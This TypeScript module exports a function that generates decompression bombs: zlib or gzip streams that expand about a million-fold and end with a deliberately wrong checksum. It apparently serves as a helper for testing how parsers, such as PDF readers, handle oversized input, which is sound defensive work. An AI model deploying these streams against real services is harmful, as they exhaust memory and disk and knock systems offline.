import { constants, deflateRawSync } from 'node:zlib';

/** Bytes before the compressed blocks: RFC 1950 (zlib, as in a PDF), RFC 1952 (gzip). */
const HEADERS = { zlib: '789c', gzip: '1f8b0800000000000003' } as const;
const BLOCK_BYTES = 1_000_000;

/**
 * A compressed stream that unpacks to so many million times this character, a thousandth as large. It is one block
 * over and over, so it costs nothing to make; the checksum at its end is wrong, which a reader learns too late.
 */
export function bomb(format: keyof typeof HEADERS, megabytes: number, character: string): Buffer {
  const filled = Buffer.alloc(BLOCK_BYTES, character);
  const block = deflateRawSync(filled, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const last = Buffer.from('03000000000000000000', 'hex');
  return Buffer.concat([Buffer.from(HEADERS[format], 'hex'), ...Array(megabytes).fill(block), last]);
}
